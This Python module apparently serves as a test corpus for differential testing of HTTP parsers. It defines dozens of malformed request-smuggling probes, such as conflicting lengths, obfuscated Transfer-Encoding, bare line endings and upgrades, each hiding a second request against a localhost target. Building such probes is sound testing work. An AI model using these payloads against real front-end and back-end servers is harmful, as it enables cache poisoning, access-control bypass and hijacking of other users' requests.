"""Requests that two programs may read differently, after the known ways to make them disagree.

Each names `/p` as its own target and hides `/smuggled` where a program that disagrees with the
front would find a second request.
"""

HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: tips.localhost\r\n\r\n"
HOST = b"Host: tips.localhost\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
END = b"0\r\n\r\n"

PROBES: dict[str, bytes] = {
    "both lengths, chunks win": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Content-Length: 5\r\n"
    + CHUNKED
    + b"\r\n"
    + END
    + HIDDEN,
    "both lengths, length wins": b"POST /p HTTP/1.1\r\n"
    + HOST
    + CHUNKED
    + b"Content-Length: 53\r\n\r\n"
    + END
    + HIDDEN,
    "two lengths": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Content-Length: 0\r\nContent-Length: 48\r\n\r\n"
    + HIDDEN,
    "two lengths on a line": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Content-Length: 0, 48\r\n\r\n"
    + HIDDEN,
    "length with a sign": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Content-Length: +0\r\n\r\n"
    + HIDDEN,
    "length below zero": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Content-Length: -1\r\n\r\n"
    + HIDDEN,
    "length in hex": b"POST /p HTTP/1.1\r\n" + HOST + b"Content-Length: 0x0\r\n\r\n" + HIDDEN,
    "length past 2^64": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Content-Length: 18446744073709551616\r\n\r\n"
    + HIDDEN,
    "length of a GET": b"GET /p HTTP/1.1\r\n" + HOST + b"Content-Length: 48\r\n\r\n" + HIDDEN,
    "length behind a space": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Content-Length : 48\r\n\r\n"
    + HIDDEN,
    "coding behind a space": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n"
    + END
    + HIDDEN,
    "coding behind a tab": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Transfer-Encoding:\tchunked\r\nContent-Length: 5\r\n\r\n"
    + END
    + HIDDEN,
    "coding with a vertical tab": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Transfer-Encoding: \x0bchunked\r\nContent-Length: 5\r\n\r\n"
    + END
    + HIDDEN,
    "coding that is none": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n"
    + END
    + HIDDEN,
    "coding twice": b"POST /p HTTP/1.1\r\n"
    + HOST
    + CHUNKED
    + b"Transfer-Encoding: identity\r\n\r\n"
    + END
    + HIDDEN,
    "coding twice on a line": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Transfer-Encoding: chunked, identity\r\nContent-Length: 5\r\n\r\n"
    + END
    + HIDDEN,
    "coding folded": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n\r\n"
    + END
    + HIDDEN,
    "coding in HTTP/1.0": b"POST /p HTTP/1.0\r\n"
    + HOST
    + CHUNKED
    + b"Content-Length: 5\r\n\r\n"
    + END
    + HIDDEN,
    "a bare LF between headers": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"X: y\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n"
    + END
    + HIDDEN,
    "bare LFs alone": b"POST /p HTTP/1.1\nHost: tips.localhost\nContent-Length: 0\n\n" + HIDDEN,
    "a bare CR between headers": b"POST /p HTTP/1.1\r\n"
    + HOST
    + b"X: y\rTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n"
    + END
    + HIDDEN,
    "two Hosts": b"GET /p HTTP/1.1\r\n" + HOST + b"Host: other.localhost\r\n\r\n",
    "no Host": b"GET /p HTTP/1.1\r\n\r\n",
    "a Host with two names": b"GET /p HTTP/1.1\r\nHost: tips.localhost, other\r\n\r\n",
    "a Host with a path": b"GET /p HTTP/1.1\r\nHost: tips.localhost/x?\r\n\r\n",
    "a folded header": b"GET /p HTTP/1.1\r\n" + HOST + b"Accept: a\r\n b\r\n\r\n",
    "a folded first header": b"GET /p HTTP/1.1\r\n Host: a\r\n" + HOST + b"\r\n",
    "NUL in a value": b"GET /p HTTP/1.1\r\n" + HOST + b"Accept: a\x00b\r\n\r\n",
    "NUL in a name": b"GET /p HTTP/1.1\r\n" + HOST + b"Acc\x00ept: a\r\n\r\n",
    "NUL in the target": b"GET /p\x00 HTTP/1.1\r\n" + HOST + b"\r\n",
    "absolute target of another": b"GET http://other.localhost/p HTTP/1.1\r\n" + HOST + b"\r\n",
    "target with a space": b"GET /p /smuggled HTTP/1.1\r\n" + HOST + b"\r\n",
    "two requests in one line": b"GET /p HTTP/1.1 HTTP/1.1\r\n" + HOST + b"\r\n",
    "HTTP/0.9": b"GET /p\r\n\r\n",
    "HTTP/1.2": b"GET /p HTTP/1.2\r\n" + HOST + b"\r\n",
    "chunk size with a sign": b"POST /p HTTP/1.1\r\n"
    + HOST
    + CHUNKED
    + b"\r\n+0\r\n\r\n"
    + HIDDEN,
    "chunk size with 0x": b"POST /p HTTP/1.1\r\n"
    + HOST
    + CHUNKED
    + b"\r\n0x0\r\n\r\n"
    + HIDDEN,
    "chunk size past 2^64": b"POST /p HTTP/1.1\r\n"
    + HOST
    + CHUNKED
    + b"\r\n10000000000000000\r\n"
    + HIDDEN,
    "chunk size ended by LF": b"POST /p HTTP/1.1\r\n"
    + HOST
    + CHUNKED
    + b"\r\n5\nabcde\r\n"
    + END
    + HIDDEN,
    "chunk extension over lines": b"POST /p HTTP/1.1\r\n"
    + HOST
    + CHUNKED
    + b"\r\n2;\nxx\r\n31\r\n0\r\n\r\n"
    + HIDDEN,
    "chunk data too long": b"POST /p HTTP/1.1\r\n"
    + HOST
    + CHUNKED
    + b"\r\n1\r\nabcd\r\n"
    + END
    + HIDDEN,
    "trailers with a length": b"POST /p HTTP/1.1\r\n"
    + HOST
    + CHUNKED
    + b"\r\n0\r\nContent-Length: 48\r\nHost: other\r\n\r\n"
    + HIDDEN,
    "an upgrade to h2c": b"GET /p HTTP/1.1\r\n"
    + HOST
    + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    b"HTTP2-Settings: AAMAAABk\r\n\r\n",
    "an upgrade to WebSocket": b"GET /p HTTP/1.1\r\n"
    + HOST
    + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" + HIDDEN,
    "Connection names a credential": b"GET /p HTTP/1.1\r\n"
    + HOST
    + b"Connection: close, host, content-length\r\n\r\n",
    "a tunnel": b"CONNECT /p HTTP/1.1\r\n" + HOST + b"\r\n" + HIDDEN,
    "an empty line and a space first": b"\r\n GET /p HTTP/1.1\r\n" + HOST + b"\r\n",
}

PIPELINED = frozenset(
    {
        "trailers with a length",
        "an upgrade to WebSocket",
        "bare LFs alone",
        "chunk size ended by LF",
        "a bare LF between headers",
        "coding folded",
    }
)
"""What a front may lawfully read as one whole request (RFC 9112, 2.2 and 5.2) and pass on.

The hidden one then follows it in its own right: the front knows it, and answers its sender."""
